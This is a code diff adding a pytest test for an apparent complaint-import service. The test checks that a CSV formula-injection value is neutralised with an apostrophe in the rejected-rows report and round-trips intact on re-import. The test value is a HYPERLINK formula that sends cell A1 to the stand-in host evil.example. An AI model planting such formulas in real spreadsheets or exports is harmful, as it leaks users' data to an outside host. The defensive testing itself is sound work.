@@ -328,3 +328,21 @@ def test_closed_rows_in_bulk_end_as_the_intake_service_leaves_them(export, chann
     assert AccountabilityEvent.objects.get(determination=determination).action == "proposed"
     assert not Determination.objects.filter(order=inquiry).exists()  # only complaints are attributed
     assert set(FactQueue.objects.values_list("order_id", flat=True)) == {first.pk, second.pk, inquiry.pk}
+
+
+@time_machine.travel(datetime(2026, 11, 1, 12, 0, tzinfo=SHANGHAI), tick=False)
+def test_the_rejected_rows_run_no_formula_and_load_back_as_written(export, channel_system, category_tree, tmp_path):
+    csv_file, mapping = export
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")'
+    text = csv_file.read_text(encoding="utf-8").replace("信鸽,BIL-DSP,投诉,未知渠道", f'信鸽,BIL-DSP,投诉,"{formula.replace(chr(34), chr(34) * 2)}"')
+    csv_file.write_text(text, encoding="utf-8")
+    run_import(csv_file, mapping)
+
+    rejected = rejected_rows(csv_file)["OLD-0004"]
+    assert rejected["投诉内容"] == "'" + formula  # a spreadsheet shows it as text (OWASP), never runs it
+    # The operator corrects the channel in the report and loads it again: the complaint reads as it was written.
+    corrected = tmp_path / "corrected.csv"
+    corrected.write_text(Path(f"{csv_file}.rejected.csv").read_text(encoding="utf-8-sig").replace(",信鸽,", ",10086热线,"),
+                         encoding="utf-8")
+    run_import(corrected, mapping)
+    assert WorkOrder.objects.get(external_ref="OLD-0004").description == formula
